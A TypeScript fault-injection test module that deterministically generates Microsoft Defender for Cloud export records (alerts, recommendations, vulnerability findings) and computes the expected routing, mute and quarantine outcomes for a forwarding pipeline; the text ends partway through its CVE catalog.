/**
 * A deterministic generator of Defender for Cloud continuous-export bodies for the fault-injection suite:
 * `generateRecords({count, seed})` returns Event Hub bodies (one JSON record each, as Defender exports it, or
 * invalid text) together with what the forwarder must do with each under `test/faults/routes.yaml`.
 *
 * Records are rendered from templates built on the shapes of `test/fixtures/defender/` and `samples/`
 * (Event Hub alerts of Defender for Containers, servers and PaaS; REST and Activity Log alerts; recommendations
 * with the current and the 2019 envelope; container image, runtime, server and SQL vulnerability findings,
 * camelCase and PascalCase with Newtonsoft `$type`/`$values`; secure scores, controls, regulatory compliance).
 * Every valid record has its own identity, so each notification is expected exactly once.
 *
 * `expected` is computed here from the rules, independently of the pipeline; test/unit/generateRecords.test.ts
 * checks it against the project's own `inspectEnvelope` and `routeFinding`. Mutes are assumed active: the one
 * mute of the rules file lasts until 2099.
 *
 * Speed: each template is stringified once and split at its `@@slot@@` placeholders; a record is the
 * concatenation of the pieces and its values (5,000 records in about 0.25 s, 50,000 in 1-2 s on a busy
 * two-core machine; 50,000 bodies hold about 136 MB of text).
 */
import path from 'node:path';
import type { Kind, Severity } from '../../src/model/finding.js';
import { DEFAULT_DECODE_LIMITS, type QuarantineCode } from '../../src/pipeline/decode.js';

// ------------------------------------------------------------------------------------------- the rules

/** The suite's rules file; the expectations below follow it. */
export const FAULT_ROUTES_FILE = path.resolve(import.meta.dirname, '../faults/routes.yaml');

/** Destination names of {@link FAULT_ROUTES_FILE}. */
export const FAULT_DESTINATIONS = Object.freeze({ splunk: 'splunk', teams: 'oncall-teams', email: 'oncall-email' });

/** The alert type whose Teams notifications the rules file's one mute silences (until 2099). */
export const MUTED_ALERT_TYPE = 'K8S.NODE_CryptoCoinMinerExecution';

/** Environment variables the rules file refers to (the suite points them at its receivers). */
export const FAULT_ROUTES_ENV_NAMES = Object.freeze(['HEC_URL', 'HEC_TOKEN', 'TEAMS_URL', 'SMTP_URL'] as const);

// ------------------------------------------------------------------------------------------- public API

export interface GenerateOptions {
  /** Number of bodies. */
  readonly count: number;
  /**
   * Same seed, same bodies. Every id carries 24 bits derived from the seed, so records of two seeds share
   * an identity (and so a dedupe key) only if those bits collide: 1 in 16.7 million for a pair of seeds.
   */
  readonly seed: number | string;
  /** Share of invalid bodies, 0..1 (default 0.03); exactly `round(count * invalidShare)` are invalid. */
  readonly invalidShare?: number;
  /**
   * Most bodies over the decoder's 1 MiB record limit (default 2). They are over Event Hubs' own 1 MB cap
   * too, so they can only be appended to the stand-in directly, not sent through a producer.
   */
  readonly maxTooLarge?: number;
}

/** What the forwarder must do with one body. */
export interface ExpectedOutcome {
  /** The body holds one Defender record the pipeline accepts. */
  readonly valid: boolean;
  /** Valid records: the kind; schema failures: the kind classification found (the quarantine entry has it). */
  readonly kind?: Kind;
  /** Valid records: `Finding.id`, exactly as the record writes it (trimmed, case kept; dedupe lower-cases). */
  readonly id?: string;
  /** Valid records: `Finding.status` (`''` for secure scores and controls). */
  readonly status?: string;
  /** Valid records: `Finding.severity` (`Unknown` for scores and compliance). */
  readonly severity?: Severity;
  /** Valid alerts: `Finding.alertType`, when the record has one (Activity Log alerts do not). */
  readonly alertType?: string;
  /** Destinations the record is delivered to, after mutes, in route order. */
  readonly destinations: readonly string[];
  /** Destinations a mute silenced. */
  readonly muted: readonly string[];
  /** Invalid bodies: the code every record of the body is quarantined with. */
  readonly quarantineCode?: QuarantineCode;
  /** Records the pipeline makes of the body: 1, or one per element of a JSON array / `records` wrapper. */
  readonly records: number;
}

export interface GeneratedRecord {
  /** Position in the generated list. */
  readonly index: number;
  /** What was generated, e.g. `alert/k8s-node`, `invalid/too-deep/process-tree`. */
  readonly variant: string;
  /** Exactly what goes into the Event Hub event (UTF-8). */
  readonly body: string;
  readonly expected: ExpectedOutcome;
}

/** Counts a run over generated bodies must produce; shaped like the pipeline's `RunSummary` where it overlaps. */
export interface ExpectedTotals {
  readonly bodies: number;
  /** Pipeline records (a JSON array body makes several). */
  readonly records: number;
  readonly outcomes: { readonly routed: number; readonly unrouted: number; readonly muted: number; readonly quarantined: number };
  /** destination -> records it receives (after mutes). */
  readonly delivered: Readonly<Record<string, number>>;
  /** destination -> records a mute silenced for it. */
  readonly muted: Readonly<Record<string, number>>;
  /** Records with at least one muted destination. */
  readonly mutedRecords: number;
  /** quarantine code -> records. */
  readonly quarantined: Readonly<Record<string, number>>;
  /** Records no route matched (none under the suite's rules: Splunk takes everything). */
  readonly unrouted: number;
  /** kind -> severity -> accepted records (as `RunSummary.byKind`). */
  readonly byKind: Readonly<Record<string, Readonly<Record<string, number>>>>;
}

/** Most bodies one call makes: the record index is part of every id, in 6 hex digits. */
const MAX_COUNT = 0xffffff;

/** Generates `count` bodies for `seed`. Pure and deterministic. */
export function generateRecords(options: GenerateOptions): GeneratedRecord[] {
  const { count } = options;
  const invalidShare = options.invalidShare ?? 0.03;
  const maxTooLarge = options.maxTooLarge ?? 2;
  if (!Number.isInteger(count) || count < 0) throw new RangeError(`count must be a non-negative integer, not ${count}`);
  if (!(invalidShare >= 0 && invalidShare <= 1)) throw new RangeError(`invalidShare must be within 0..1, not ${invalidShare}`);

  const seed = typeof options.seed === 'number' ? options.seed >>> 0 : hashString(options.seed);
  const random = new Random(seed);
  if (count > MAX_COUNT) throw new RangeError(`count must be at most ${MAX_COUNT} (ids hold the index in 6 hex digits)`);
  const context: Context = { random, tag: new Random(seed ^ 0x5bd1e995).hex(6), subscriptions: [], tenant: '' };
  context.subscriptions = Array.from({ length: 6 }, () => randomGuid(random));
  context.tenant = randomGuid(random);

  // Which positions are invalid: exactly round(count * share) of them, spread at random.
  const invalidCount = Math.round(count * invalidShare);
  const invalid = new Uint8Array(count);
  const positions = Array.from({ length: count }, (_, i) => i);
  for (let k = 0; k < invalidCount; k++) {
    const j = k + random.int(count - k);
    const chosen = positions[j] ?? 0;
    positions[j] = positions[k] ?? 0;
    positions[k] = chosen;
    invalid[chosen] = 1;
  }

  const invalidVariants = INVALID_VARIANTS.filter((variant) => variant.code !== 'too-large' || maxTooLarge > 0);
  let tooLarge = 0;
  let validSeen = 0;
  let invalidSeen = 0;
  const out: GeneratedRecord[] = [];
  for (let index = 0; index < count; index++) {
    if (invalid[index] === 1) {
      // The first invalid bodies take every variant once, so even a short list shows each.
      let variant = invalidSeen < invalidVariants.length ? invalidVariants[invalidSeen] : random.weighted(invalidVariants);
      if (variant === undefined) throw new Error('no invalid variant');
      if (variant.code === 'too-large') {
        if (tooLarge >= maxTooLarge) variant = random.weighted(invalidVariants.filter((v) => v.code !== 'too-large'));
        else tooLarge++;
      }
      invalidSeen++;
      const made = variant.make(context, index);
      const expected: ExpectedOutcome = {
        valid: false,
        destinations: [],
        muted: [],
        quarantineCode: variant.code,
        records: made.records ?? 1,
        ...(made.kind !== undefined ? { kind: made.kind } : {}),
      };
      out.push({ index, variant: `invalid/${variant.code}/${made.variant}`, body: made.body, expected });
    } else {
      const variant = validSeen < VALID_VARIANTS.length ? VALID_VARIANTS[validSeen] : random.weighted(VALID_VARIANTS);
      if (variant === undefined) throw new Error('no valid variant');
      validSeen++;
      const record = variant.make(context, index);
      out.push({ index, variant: variant.name, body: record.body, expected: expectValid(record) });
    }
  }
  return out;
}

/** What a run over `records` must count. */
export function expectedTotals(records: readonly GeneratedRecord[]): ExpectedTotals {
  const outcomes = { routed: 0, unrouted: 0, muted: 0, quarantined: 0 };
  const delivered: Record<string, number> = {};
  const muted: Record<string, number> = {};
  const quarantined: Record<string, number> = {};
  const byKind: Record<string, Record<string, number>> = {};
  let total = 0;
  let mutedRecords = 0;
  for (const { expected } of records) {
    total += expected.records;
    if (!expected.valid) {
      const code = expected.quarantineCode ?? 'internal-error';
      quarantined[code] = (quarantined[code] ?? 0) + expected.records;
      outcomes.quarantined += expected.records;
      continue;
    }
    const routedTo = expected.destinations.length + expected.muted.length;
    if (routedTo === 0) outcomes.unrouted++;
    else if (expected.destinations.length === 0) outcomes.muted++;
    else outcomes.routed++;
    for (const name of expected.destinations) delivered[name] = (delivered[name] ?? 0) + 1;
    for (const name of expected.muted) muted[name] = (muted[name] ?? 0) + 1;
    if (expected.muted.length > 0) mutedRecords++;
    if (expected.kind !== undefined) {
      const bySeverity = (byKind[expected.kind] ??= {});
      const severity = expected.severity ?? 'Unknown';
      bySeverity[severity] = (bySeverity[severity] ?? 0) + 1;
    }
  }
  return { bodies: records.length, records: total, outcomes, delivered, muted, mutedRecords, quarantined, unrouted: outcomes.unrouted, byKind };
}

// ------------------------------------------------------------------------------------------- expectations

/** A valid record as built, before routing. */
interface BuiltRecord {
  readonly body: string;
  readonly kind: Kind;
  readonly id: string;
  readonly status: string;
  readonly severity: Severity;
  readonly alertType?: string;
}

/** The routing of test/faults/routes.yaml, written out. */
function expectValid(record: BuiltRecord): ExpectedOutcome {
  const destinations: string[] = [FAULT_DESTINATIONS.splunk];
  const muted: string[] = [];
  if (record.kind === 'alert' && record.severity === 'High') {
    if (record.alertType?.toLowerCase() === MUTED_ALERT_TYPE.toLowerCase()) muted.push(FAULT_DESTINATIONS.teams);
    else destinations.push(FAULT_DESTINATIONS.teams);
  }
  if (record.kind === 'finding' && record.severity === 'Critical') destinations.push(FAULT_DESTINATIONS.email);
  const expected: { -readonly [K in keyof ExpectedOutcome]: ExpectedOutcome[K] } = {
    valid: true,
    kind: record.kind,
    id: record.id,
    status: record.status,
    severity: record.severity,
    destinations,
    muted,
    records: 1,
  };
  if (record.alertType !== undefined) expected.alertType = record.alertType;
  return expected;
}

// ------------------------------------------------------------------------------------------- randomness

/** mulberry32: small, fast, and the same sequence on every platform. */
class Random {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  /** 0 .. n-1 */
  int(n: number): number {
    return Math.floor(this.next() * n);
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(items: readonly T[]): T {
    const item = items[this.int(items.length)];
    if (item === undefined) throw new Error('pick from an empty list');
    return item;
  }

  weighted<T extends { readonly weight: number }>(items: readonly T[]): T {
    let total = 0;
    for (const item of items) total += item.weight;
    let at = this.next() * total;
    for (const item of items) {
      at -= item.weight;
      if (at < 0) return item;
    }
    const last = items[items.length - 1];
    if (last === undefined) throw new Error('weighted pick from an empty list');
    return last;
  }

  /** `digits` lower-case hex digits. */
  hex(digits: number): string {
    let out = '';
    while (out.length < digits) out += ((this.next() * 4294967296) >>> 0).toString(16).padStart(8, '0');
    return out.slice(0, digits);
  }

  digits(n: number): string {
    let out = '';
    while (out.length < n) out += String(this.int(1_000_000_000)).padStart(9, '0');
    return out.slice(0, n);
  }
}

function hashString(text: string): number {
  let hash = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) hash = Math.imul(hash ^ text.charCodeAt(i), 0x01000193);
  return hash >>> 0;
}

interface Context {
  readonly random: Random;
  /** 6 hex digits from the seed: part of every unique id. */
  readonly tag: string;
  subscriptions: string[];
  tenant: string;
}

/** A GUID unique to (seed tag, record index): the last group is the tag and the index. */
function uniqueGuid(context: Context, index: number): string {
  return guidFrom(context.random, context.tag, index);
}

/** A GUID of random digits (subscriptions, tenants, agents: not record identities). */
function randomGuid(random: Random): string {
  return guidFrom(random, random.hex(6), random.int(0x1000000));
}

function guidFrom(random: Random, tag: string, index: number): string {
  const r = random.hex(15);
  return `${r.slice(0, 8)}-${r.slice(8, 12)}-4${r.slice(12, 15)}-${'89ab'.charAt(random.int(4))}${random.hex(3)}-${tag}${index.toString(16).padStart(6, '0')}`;
}

/** `<19 digits>_<GUID>`: the older SystemAlertId format (reversed .NET ticks, then an upper-case GUID). */
function tickedId(context: Context, index: number): string {
  return `25${context.random.digits(17)}_${uniqueGuid(context, index).toUpperCase()}`;
}

const BASE_TIME_MS = Date.UTC(2026, 10, 27, 0, 0, 0);

const DAY_MS = 86_400_000;
const PADDED = Array.from({ length: 10_000 }, (_, n) => String(n).padStart(4, '0'));
const datePrefixes = new Map<number, string>();

/**
 * An instant for record `index` (1.7 s apart, plus jitter), ISO 8601 with 7-digit fractions as .NET writes
 * them. Formatted by hand: `new Date().toISOString()` was a fifth of the generation time.
 */
function timeOf(context: Context, index: number, offsetMs = 0): string {
  const ms = BASE_TIME_MS + index * 1_700 + offsetMs + context.random.int(900);
  const day = Math.floor(ms / DAY_MS);
  let date = datePrefixes.get(day);
  if (date === undefined) {
    date = new Date(day * DAY_MS).toISOString().slice(0, 11);
    datePrefixes.set(day, date);
  }
  let rest = ms - day * DAY_MS;
  const hours = Math.floor(rest / 3_600_000);
  rest -= hours * 3_600_000;
  const minutes = Math.floor(rest / 60_000);
  rest -= minutes * 60_000;
  const seconds = Math.floor(rest / 1_000);
  const millis = rest - seconds * 1_000;
  const two = (n: number): string => (PADDED[n] ?? '0000').slice(2);
  return `${date}${two(hours)}:${two(minutes)}:${two(seconds)}.${(PADDED[millis] ?? '0000').slice(1)}${PADDED[context.random.int(10_000)] ?? '0000'}Z`;
}

function weightedValue<T>(random: Random, items: readonly (readonly [T, number])[]): T {
  let total = 0;
  for (const [, weight] of items) total += weight;
  let at = random.next() * total;
  for (const [value, weight] of items) {
    at -= weight;
    if (at < 0) return value;
  }
  const last = items[items.length - 1];
  if (last === undefined) throw new Error('weighted pick from an empty list');
  return last[0];
}

// ------------------------------------------------------------------------------------------- templates

/**
 * A JSON text split at its slots: `"@@#name@@"` takes raw JSON (numbers, booleans, arrays), `@@name@@` text
 * (escaped as needed). A name may occur many times; `names` lists each once, `slots` refers to them by index.
 */
interface Template {
  readonly parts: readonly string[];
  readonly names: readonly { readonly name: string; readonly raw: boolean }[];
  /** For each slot (between parts[i] and parts[i + 1]), its index in `names`. */
  readonly slots: readonly number[];
}

function compileTemplate(shape: unknown): Template {
  const text = JSON.stringify(shape);
  const parts: string[] = [];
  const names: { name: string; raw: boolean }[] = [];
  const slots: number[] = [];
  let last = 0;
  for (const match of text.matchAll(/"@@#(\w+)@@"|@@(\w+)@@/g)) {
    parts.push(text.slice(last, match.index));
    const raw = match[1] !== undefined;
    const name = match[1] ?? match[2] ?? '';
    let at = names.findIndex((known) => known.name === name && known.raw === raw);
    if (at < 0) at = names.push({ name, raw }) - 1;
    slots.push(at);
    last = match.index + match[0].length;
  }
  parts.push(text.slice(last));
  return { parts, names, slots };
}

const NEEDS_ESCAPE = /["\\\u0000-\u001f]/;

function render(template: Template, values: Readonly<Record<string, string>>): string {
  const { parts, names, slots } = template;
  // Each distinct value is looked up and escaped once, however often the template repeats it.
  const texts = new Array<string>(names.length);
  for (let n = 0; n < names.length; n++) {
    const slot = names[n];
    if (slot === undefined) break;
    const value = values[slot.name];
    if (value === undefined) throw new Error(`template slot "${slot.name}" has no value`);
    texts[n] = slot.raw || !NEEDS_ESCAPE.test(value) ? value : JSON.stringify(value).slice(1, -1);
  }
  // One join makes one flat string; `+=` would keep a rope of hundreds of pieces per body alive (GC time).
  const pieces = new Array<string>(parts.length + slots.length);
  pieces[0] = parts[0] ?? '';
  for (let i = 0; i < slots.length; i++) {
    pieces[2 * i + 1] = texts[slots[i] ?? 0] ?? '';
    pieces[2 * i + 2] = parts[i + 1] ?? '';
  }
  return pieces.join('');
}

/** Lazily compiled, so importing this module costs nothing. */
function lazyTemplate(shape: () => unknown): () => Template {
  let compiled: Template | undefined;
  return () => (compiled ??= compileTemplate(shape()));
}

/**
 * The fully PascalCase export with Newtonsoft annotations: every object gets a `$type`, every array becomes
 * `{"$type": ..., "$values": [...]}` (seen on sub-assessments; the decoder folds it back).
 */
function pascalCase(value: unknown, typeName: string): unknown {
  if (Array.isArray(value)) {
    return { $type: `System.Collections.Generic.List\`1[[${typeName}, Microsoft.Azure.Security.Common]], System.Private.CoreLib`, $values: value.map((item) => pascalCase(item, typeName)) };
  }
  if (value === null || typeof value !== 'object') return value;
  const out: Record<string, unknown> = { $type: `Microsoft.Azure.Security.Common.Contracts.${typeName}, Microsoft.Azure.Security.Common` };
  for (const [key, item] of Object.entries(value)) {
    const pascal = key.charAt(0).toUpperCase() + key.slice(1);
    out[pascal] = pascalCase(item, pascal);
  }
  return out;
}

// ------------------------------------------------------------------------------------------- catalogs

interface AlertEntry {
  readonly alertType: string;
  readonly title: string;
  readonly description: string;
  readonly intent: string;
  readonly remediation: readonly string[];
  readonly weight: number;
}

const K8S_CONTROL_PLANE_ALERTS: readonly AlertEntry[] = [
  {
    alertType: 'K8S_AdmissionController',
    title: 'Creation of admission webhook configuration detected',
    description:
      'Kubernetes audit log analysis detected a new admission webhook configuration. Kubernetes has two built-in generic admission controllers: MutatingAdmissionWebhook and ValidatingAdmissionWebhook. The behavior of these admission controllers is determined by an admission webhook that the user deploys to the cluster. The usage of such admission controllers can be legitimate, however attackers can use such webhooks for modifying the requests (in case of MutatingAdmissionWebhook) or inspecting the requests and gain sensitive information (in case of ValidatingAdmissionWebhook).',
    intent: 'Persistence, CredentialAccess',
    remediation: ['Review the admission controller webhook associated with this configuration. The details of the webhook configuration can be retrieved by the command:\nkubectl get mutatingwebhookconfigurations -o json\nIf this configuration belongs to a legitimate admission controller in the cluster, you can ignore the alert.'],
    weight: 3,
  },
  {
    alertType: 'K8S_ClusterAdminBinding',
    title: 'Role binding to the cluster-admin role detected',
    description:
      'Kubernetes audit log analysis detected a new binding to the cluster-admin role which gives administrator privileges. Unnecessary administrator privileges might cause privilege escalation in the cluster.',
    intent: 'Persistence, PrivilegeEscalation',
    remediation: ['Review the user in the alert details. If cluster-admin is unnecessary for this user, consider granting lower privileges to the user.'],
    weight: 2,
  },
  {
    alertType: 'K8S_ExposedDashboard',
    title: 'Exposed Kubernetes dashboard detected',
    description:
      'Kubernetes audit log analysis detected exposure of the Kubernetes Dashboard by a LoadBalancer service. Exposed dashboards allow unauthenticated access to the cluster management and pose a security threat.',
    intent: 'InitialAccess',
    remediation: ['Remove the public exposure of the Kubernetes Dashboard service, and use kubectl proxy or a private endpoint to reach it.'],
    weight: 1,
  },
  {
    alertType: 'K8S_PrivilegedContainer',
    title: 'Privileged container detected',
    description:
      'Kubernetes audit log analysis detected a new privileged container. A privileged container has access to the resources of the node and breaks the isolation between containers. If compromised, an attacker can use the privileged container to gain access to the node.',
    intent: 'PrivilegeEscalation',
    remediation: ['Make sure the container really needs to run privileged; otherwise remove securityContext.privileged from its pod specification.', 'Enforce the Azure Policy "Kubernetes cluster should not allow privileged containers".'],
    weight: 2,
  },
  {
    alertType: 'K8S_SensitiveMount',
    title: 'Container with a sensitive volume mount detected',
    description:
      'Kubernetes audit log analysis detected a new container with a sensitive volume mount. The volume that was detected is a hostPath type which mounts a sensitive file or folder from the node to the container. If the container gets compromised, the attacker can use this mount for gaining access to the node.',
    intent: 'PrivilegeEscalation',
    remediation: ['Review the container configuration. If the mount is not needed, remove the hostPath volume from the pod specification.'],
    weight: 1,
  },
  {
    alertType: 'K8S_ServiceAccountRoleBinding',
    title: 'New high privileges role binding to a service account detected',
    description:
      'Kubernetes audit log analysis detected a role binding that grants a service account high privileges in the cluster. Attackers who compromise a workload running under this service account could use these privileges to move laterally.',
    intent: 'LateralMovement, PrivilegeEscalation',
    remediation: ['Review the service account and the permissions of the role it is bound to; grant the least privilege the workload needs.'],
    weight: 1,
  },
];

const K8S_NODE_ALERTS: readonly AlertEntry[] = [
  {
    alertType: MUTED_ALERT_TYPE,
    title: 'Possible Crypto coin miner execution',
    description:
      "Kubernetes process analysis detected a process execution normally associated with digital currency mining in container '{container}' of pod '{pod}' in namespace '{namespace}'.",
    intent: 'Execution',
    remediation: [
      'Review the process and the container image in the alert details.',
      'If the process is unexpected, delete the pod and rotate any credentials the workload could reach.',
      'Escalate the alert to the information security team.',
    ],
    weight: 3,
  },
  {
    alertType: 'K8S.NODE_ReverseShell',
    title: 'Possible reverse shell',
    description:
      "Analysis of processes running within a container of pod '{pod}' in namespace '{namespace}' detected a potential reverse shell. Reverse shells are used to get a compromised machine to call back into a machine an attacker owns.",
    intent: 'Exfiltration, Exploitation',
    remediation: ['Isolate the pod, review its image and recent deployments, and rotate any secret the workload could read.'],
    weight: 2,
  },
  {
    alertType: 'K8S.NODE_SuspectNohup',
    title: 'Detected suspicious use of the nohup command',
    description:
      "Analysis of processes running within container '{container}' detected suspicious use of the nohup command. Attackers have been seen using the command nohup to run hidden files from a temporary directory to allow their executables to run in the background.",
    intent: 'Persistence, DefenseEvasion',
    remediation: ['Review the command line in the alert details; if it is not expected, delete the pod and investigate the image.'],
    weight: 2,
  },
  {
    alertType: 'K8S.NODE_ExploitAttempt',
    title: 'Possible command line exploitation attempt',
    description:
      "Analysis of processes running within container '{container}' of pod '{pod}' detected a possible exploitation attempt against a known vulnerability.",
    intent: 'Exploitation',
    remediation: ['Patch the vulnerable component in the image and redeploy; review the pod logs for follow-up activity.'],
    weight: 2,
  },
  {
    alertType: 'K8S.NODE_FileDownloadAndExecution',
    title: 'A file was downloaded and executed',
    description:
      "Analysis of processes running within container '{container}' indicates that a file has been downloaded to the container, given execution privileges and then executed.",
    intent: 'Execution',
    remediation: ['Review the downloaded file and where it came from; if unexpected, delete the pod and block the source address.'],
    weight: 1,
  },
];

const VM_ALERTS: readonly AlertEntry[] = [
  {
    alertType: 'VM_EICAR',
    title: 'Microsoft Defender for Cloud test alert (not a threat).',
    description: 'This is a test alert generated by Microsoft Defender for Cloud. No further action is needed.',
    intent: 'Execution',
    remediation: ['No further action is needed.'],
    weight: 1,
  },
  {
    alertType: 'VM_SshBruteForceSuccess',
    title: 'Successful SSH brute force attack',
    description:
      'Analysis of authentication activity detected a successful login after many failed attempts from the same source address. The pattern matches a brute force attack that has succeeded.',
    intent: 'PreAttack, InitialAccess',
    remediation: ['Reset the password of the account, restrict SSH access with just-in-time access or network security groups, and review the session activity.'],
    weight: 2,
  },
  {
    alertType: 'VM_SuspectDownloadArtifacts',
    title: 'Detected suspicious file download',
    description: 'Analysis of host data detected a suspicious download of a remote file, a technique often used to stage further tools on a compromised machine.',
    intent: 'Execution',
    remediation: ['Review the process tree and the downloaded file; if unexpected, isolate the machine and run a full scan.'],
    weight: 2,
  },
  {
    alertType: 'VM_AmBroadFilesExclusion',
    title: 'File extension exclusion in Antimalware',
    description: 'A broad file exclusion was added to the antimalware configuration of the virtual machine. Attackers exclude their tools from scanning to avoid detection.',
    intent: 'DefenseEvasion',
    remediation: ['Confirm the exclusion with the machine owner and remove it if it is not needed.'],
    weight: 1,
  },
];

const OTHER_ALERTS: readonly AlertEntry[] = [
  {
    alertType: 'ARM_MicroBurst.AzDomainInfo',
    title: 'MicroBurst toolkit "Get-AzDomainInfo" function run detected',
    description: 'A known cloud-environment reconnaissance toolkit function was run in the subscription. Attackers use it to map resources before they attack.',
    intent: 'Collection',
    remediation: ['Review the identity that ran the operations and revoke its credentials if the activity is not expected.'],
    weight: 1,
  },
  {
    alertType: 'SQL.DB_BruteForce',
    title: 'Potential SQL Brute Force attempt',
    description: 'An abnormally high number of failed sign-ins with different credentials was detected on the database. The pattern matches a brute force attempt.',
    intent: 'PreAttack',
    remediation: ['Restrict the firewall rules of the server and use Microsoft Entra authentication.'],
    weight: 1,
  },
  {
    alertType: 'Storage.Blob_AnonymousAccessAnomaly',
    title: 'Unusual unauthenticated access to a storage container',
    description: 'This storage account was accessed without authentication, which is a change in the common access pattern.',
    intent: 'Collection',
    remediation: ['Disable anonymous access on the container unless it is meant to be public.'],
    weight: 1,
  },
  {
    alertType: 'KV_SuspiciousIPAccess',
    title: 'Access from a suspicious IP address to a key vault',
    description: 'A key vault was successfully accessed from an IP address that Microsoft Threat Intelligence has identified as suspicious.',
    intent: 'CredentialAccess',
    remediation: ['Rotate the secrets of the vault and restrict its network access.'],
    weight: 1,
  },
  {
    alertType: 'AppServices_PhishingContent',
    title: 'Phishing content hosted on Azure Webapps',
    description: 'The URL of the web app was used in a phishing campaign targeting Microsoft 365 customers.',
    intent: 'Collection',
    remediation: ['Review the content of the web app and remove any phishing pages.'],
    weight: 1,
  },
];

interface AssessmentEntry {
  readonly key: string;
  readonly title: string;
  readonly description: string;
  readonly remediation: string;
  readonly severity: 'Low' | 'Medium' | 'High';
  readonly category: string;
  readonly threats: readonly string[];
  readonly resource: 'vm' | 'storage' | 'aks' | 'keyvault' | 'sql';
  readonly weight: number;
}

const ASSESSMENTS: readonly AssessmentEntry[] = [
  {
    key: '1f655fb7-63ca-4980-91a3-56dbc2b715c6',
    title: 'Vulnerabilities in security configuration on your Linux machines should be remediated (powered by Guest Configuration)',
    description: 'Remediate vulnerabilities in security configuration on your Linux machines to protect them from attacks.',
    remediation: "1. Select any of the findings below.<br>2. On the right pane opened, follow the instructions under 'Remediation' if exist.",
    severity: 'Low',
    category: 'Compute',
    threats: ['DataExfiltration', 'DataSpillage', 'AccountBreach'],
    resource: 'vm',
    weight: 3,
  },
  {
    key: '4fb67663-9ab9-475d-b026-8c544cced439',
    title: 'Linux virtual machines should enable Azure Disk Encryption or EncryptionAtHost',
    description: 'By default, a virtual machine\'s OS and data disks are encrypted-at-rest using platform-managed keys; temp disks and data caches are not encrypted.',
    remediation: 'Enable encryption at host or Azure Disk Encryption on the virtual machine.',
    severity: 'High',
    category: 'Compute',
    threats: ['DataExfiltration', 'DataSpillage'],
    resource: 'vm',
    weight: 2,
  },
  {
    key: '1c5de8e1-f68d-6a17-e0d2-ec259c42768c',
    title: 'Storage accounts should restrict network access using virtual network rules',
    description: 'Protect your storage accounts from potential threats using virtual network rules as a preferred method instead of IP-based filtering.',
    remediation: "1. In your storage account, go to 'Networking'.<br>2. Select 'Selected networks' and configure the virtual networks allowed to connect.",
    severity: 'Medium',
    category: 'Data',
    threats: ['DataExfiltration'],
    resource: 'storage',
    weight: 2,
  },
  {
    key: '1a2b5b4c-f80d-46e7-ac81-b51a9fb363de',
    title: 'Azure Kubernetes Service clusters should have Defender profile enabled',
    description: 'Microsoft Defender for Containers provides cloud-native Kubernetes security capabilities including environment hardening, workload protection, and run-time protection.',
    remediation: 'Enable the Defender profile (the security agent) on the cluster from the Defender for Containers plan settings.',
    severity: 'High',
    category: 'Container',
    threats: ['DataExfiltration', 'MaliciousInsider', 'DenialOfService'],
    resource: 'aks',
    weight: 2,
  },
  {
    key: '95c7b4b4-2e9b-4c8f-b1a0-1d7d1f8d9f35',
    title: 'Kubernetes clusters should not use the default namespace',
    description: 'Prevent usage of the default namespace in Kubernetes clusters to protect against unauthorized access for ConfigMap, Pod, Secret, Service, and ServiceAccount resource types.',
    remediation: 'Move the workloads out of the default namespace and deny new deployments to it with Azure Policy.',
    severity: 'Low',
    category: 'Container',
    threats: ['AccountBreach', 'DataExfiltration'],
    resource: 'aks',
    weight: 1,
  },
  {
    key: '78036bbf-2c3b-4a95-b9a3-4ad2f1d7a5c6',
    title: 'Key vaults should have deletion protection enabled',
    description: 'Malicious deletion of a key vault can lead to permanent data loss. Purge protection and soft delete protect against it.',
    remediation: 'Enable purge protection on the key vault.',
    severity: 'Medium',
    category: 'Data',
    threats: ['DataSpillage', 'MaliciousInsider'],
    resource: 'keyvault',
    weight: 1,
  },
  {
    key: '82e20e14-edc5-4373-bfc4-f13121257c37',
    title: 'SQL databases should have vulnerability findings resolved',
    description: 'SQL Vulnerability assessment scans your database for security vulnerabilities, and exposes any deviations from best practices such as misconfigurations, excessive permissions, and unprotected sensitive data.',
    remediation: 'Review the findings of the vulnerability assessment and remediate or accept them as a baseline.',
    severity: 'High',
    category: 'Data',
    threats: ['DataExfiltration', 'AccountBreach'],
    resource: 'sql',
    weight: 1,
  },
];

const RESOURCE_KINDS = {
  vm: { provider: 'Microsoft.Compute', type: 'virtualMachines', prefix: 'vm-app-', rg: 'rg-prod-compute' },
  storage: { provider: 'Microsoft.Storage', type: 'storageAccounts', prefix: 'stprod', rg: 'rg-prod-data' },
  aks: { provider: 'Microsoft.ContainerService', type: 'managedClusters', prefix: 'aks-prod-', rg: 'rg-prod-aks' },
  keyvault: { provider: 'Microsoft.KeyVault', type: 'vaults', prefix: 'kv-prod-', rg: 'rg-prod-security' },
  sql: { provider: 'Microsoft.Sql', type: 'servers', prefix: 'sql-prod-', rg: 'rg-prod-data' },
} as const;

interface CveEntry {
  readonly cve: string;
  readonly packageName: string;
  readonly version: string;
  readonly fixedVersion: string;
  readonly language: string;
  readonly description: string;
}

const CVES: readonly CveEntry[] = [
  { cve: 'CVE-2021-44228', packageName: 'log4j-core', version: '2.14.1', fixedVersion: '2.17.1', language: 'java', description: 'Apache Log4j2 JNDI features do not protect against attacker controlled LDAP and other JNDI related endpoints.' },
  { cve: 'CVE-2022-42969', packageName: 'py', version: '1.11.0.0', fixedVersion: '', language: 'python', description: 'The py library for Python allows remote attackers to conduct a ReDoS (Regular expression Denial of Service) attack via a Subversion repository with crafted info data.' },
  { cve: 'CVE-2024-3094', packageName: 'xz-utils', version: '5.6.0', fixedVersion: '5.6.1+really5.4.5', language: '', description: 'Malicious code was discovered in the upstream tarballs of xz, starting with version 5.6.0.' },
  { cve: 'CVE-2023-44487', packageName: 'golang.org/x/net', version: '0.15.0', fixedVersion: '0.17.0', language: 'go', description: 'The HTTP/2 protocol allows a denial of service (server resource consumption) because request cancellation can reset many streams quickly.' },
  { cve: 'CVE-2023-38545', packageName: 'curl', version: '8.3.0', fixedVersion: '8.4.0', language: '', description: 'This flaw makes curl overflow a heap based buffer in the SOCKS5 proxy handshake.' },
  { cve: 'CVE-2022-3602', packageName: 'openssl', version: '3.0.6', fixedVersion: '3.0.7', language: '', description: 'A buffer overrun can be triggered in X.509 certificate verification, specifically in name constraint checking.' },
